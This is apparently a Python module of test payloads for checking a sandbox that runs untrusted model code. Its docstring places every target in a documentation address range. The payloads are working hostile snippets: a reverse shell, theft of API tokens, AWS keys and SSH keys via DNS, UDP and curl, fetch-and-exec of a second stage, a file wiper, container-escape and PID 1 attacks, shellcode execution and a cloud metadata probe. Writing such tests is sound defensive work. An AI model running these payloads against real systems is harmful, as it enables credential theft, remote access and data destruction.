"""Python payloads. Each goes on when a call is refused, so that every step of it shows under every policy.

Whatever they reach for leads nowhere: TEST-NET-3 (203.0.113.0/24, RFC 5737), names below .invalid (RFC 2606), and the
home of a jail. They are text: never run one outside a jail.
"""

REVERSE_SHELL = """
    import os, socket, subprocess
    peer = socket.socket()
    try:
        peer.connect(("203.0.113.7", 4444))
        for number in (0, 1, 2):
            os.dup2(peer.fileno(), number)
    except OSError:
        pass
    try:
        subprocess.run(["/bin/sh", "-i"], timeout=5)
    except (OSError, subprocess.SubprocessError):
        pass
"""
DNS = """
    import os, socket
    secret = os.environ.get("WANDB_API_KEY", "none")[:60]
    try:
        socket.getaddrinfo(secret + ".exfil.example.invalid", 80)
    except OSError:
        pass
"""
CREDENTIALS = """
    import os, socket
    loot = b""
    for name in (".aws/credentials", ".ssh/id_rsa"):
        try:
            with open(os.path.expanduser("~/" + name), "rb") as file:
                loot += file.read()
        except OSError:
            pass
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        udp.sendto(loot[:1200], ("203.0.113.7", 9999))
    except OSError:
        pass
    try:
        socket.create_connection(("203.0.113.7", 443), timeout=2)
    except OSError:
        pass
"""
ENVIRONMENT = """
    import os
    print(dict(os.environ))
"""
ARGV_THEFT = """
    import os, subprocess
    try:
        subprocess.run(["curl", "-d", os.environ.get("HF_TOKEN", ""), "http://203.0.113.7/"], timeout=5)
    except (OSError, subprocess.SubprocessError):
        pass
"""
WRITE = """
    import os
    for path in {paths!r}:
        try:
            path = os.path.expanduser(path)
            os.makedirs(os.path.dirname(path), exist_ok=True)
        except OSError:
            pass
        try:
            with open(path, "a") as file:
                file.write("# harmless\\n")
        except OSError:
            pass
"""
STAGE_TWO = """
    import urllib.request
    try:
        exec(urllib.request.urlopen("http://203.0.113.9/stage2.py", timeout=2).read())
    except OSError:
        pass
"""
LATE_THREAD = """
    import socket, threading, time
    def late():
        time.sleep(1)
        for _ in range(3):
            try:
                socket.create_connection(("203.0.113.7", 4444), timeout=1)
            except OSError:
                pass
    threading.Thread(target=late).start()
"""
ENDLESS_THREAD = """
    import threading
    def spin():
        while True:
            pass
    threading.Thread(target=spin, daemon=True).start()
"""
ATEXIT = """
    import atexit, os
    atexit.register(os.system, "id")
"""
FINALIZER = """
    import builtins, os
    class Late:
        def __del__(self, system=os.system):
            system("id")
    builtins.late = Late()
"""
SLEEPY = """
    import gc
    for thing in gc.get_objects():
        if type(thing).__name__ == "Tensor" and tuple(thing.shape) == (2, 3):
            thing.zero_()
"""
FLOOD = """
    import socket
    for at in range(100_000):
        peer = socket.socket()
        try:
            peer.connect(("203.0.113.%d" % (at % 250 + 1), at % 60000 + 1))
        except OSError:
            pass
        peer.close()
"""
LONG_SLEEP = """
    import os, time
    time.sleep(3600)
    os.system("id")
"""
FORK = """
    import os
    try:
        if os.fork() == 0:
            os._exit(0)
    except OSError:
        pass
"""
MEMFD = """
    import os, subprocess
    number = 99
    try:
        number = os.memfd_create("x", 0)
        os.write(number, b"#!/bin/sh\\nid\\n")
    except OSError:
        pass
    try:
        subprocess.run(["/proc/self/fd/%d" % number], timeout=5)
    except (OSError, subprocess.SubprocessError):
        pass
"""
ATTACK_PID_1 = """
    import ctypes, os
    try:
        os.kill(1, 9)
    except OSError:
        pass
    libc = ctypes.CDLL(None)
    libc.ptrace(16, 1, 0, 0)
    libc.syscall(434, 1, 0)
"""
READ_PID_1 = """
    for name in ("mem", "environ", "fd/1"):
        try:
            open("/proc/1/" + name, "rb").read(64)
        except OSError:
            pass
"""
SECOND_FILTER = """
    import ctypes
    libc = ctypes.CDLL(None)
    allow = ctypes.create_string_buffer((6).to_bytes(2, "little") + bytes(2) + (0x7FFF0000).to_bytes(4, "little"))
    class Program(ctypes.Structure):
        _fields_ = [("length", ctypes.c_ushort), ("rows", ctypes.c_void_p)]
    program = Program(1, ctypes.addressof(allow))
    libc.prctl(4, 0, 0, 0, 0)
    libc.prctl(22, 2, ctypes.byref(program), 0, 0)
    libc.syscall(317, 1, 0, ctypes.byref(program))
"""
# int 0x80 with eax = getpid, from memory of its own making or, where there is none, from the model file itself.
FOREIGN_CALL = """
    import ctypes, os
    code = bytes.fromhex("b814000000cd80c3")
    libc = ctypes.CDLL(None)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
    failed = ctypes.c_void_p(-1).value
    at = libc.mmap(None, 4096, 7, 0x22, -1, 0)
    if at != failed:
        ctypes.memmove(at, code, len(code))
        ctypes.CFUNCTYPE(ctypes.c_int)(at)()
    for folder, _, names in os.walk("/model"):
        for name in names:
            path = os.path.join(folder, name)
            with open(path, "rb") as file:
                found = file.read().find(code)
                at = libc.mmap(None, found + 4096, 5, 2, file.fileno(), 0)
            if found >= 0 and at != failed:
                ctypes.CFUNCTYPE(ctypes.c_int)(at + found)()
"""
UDP = """
    import socket
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(3):
        try:
            udp.sendto(b"beacon", ("203.0.113.7", 9999))
        except OSError:
            pass
"""
LISTEN = """
    import socket
    server = socket.socket()
    try:
        server.bind(("0.0.0.0", 4444))
        server.listen()
    except OSError:
        pass
"""
ODD_SOCKETS = """
    import socket
    for family, kind in ((16, 3), (17, 3), (40, 1), (38, 5)):
        try:
            socket.socket(family, kind).close()
        except OSError:
            pass
"""
IO_URING = """
    import ctypes
    ctypes.CDLL(None).syscall(425, 8, ctypes.create_string_buffer(256))
"""
ESCAPE = """
    import ctypes
    libc = ctypes.CDLL(None)
    libc.unshare(0x10000000)
    libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
    libc.syscall(321, 5, 0, 0)
    libc.syscall(250, 0, 0, 0)
    libc.setuid(0)
"""
WIPER = """
    import os
    home = os.path.expanduser("~/")
    for act in (
        lambda: os.unlink(home + ".netrc"),
        lambda: os.rename(home + ".bash_history", home + ".bash_history.locked"),
        lambda: os.chmod(home + ".pypirc", 0),
    ):
        try:
            act()
        except OSError:
            pass
"""
EXIT = """
    import os
    os._exit(0)
"""
METADATA = """
    import socket
    try:
        socket.create_connection(("169.254.169.254", 80), timeout=2)
    except OSError:
        pass
"""
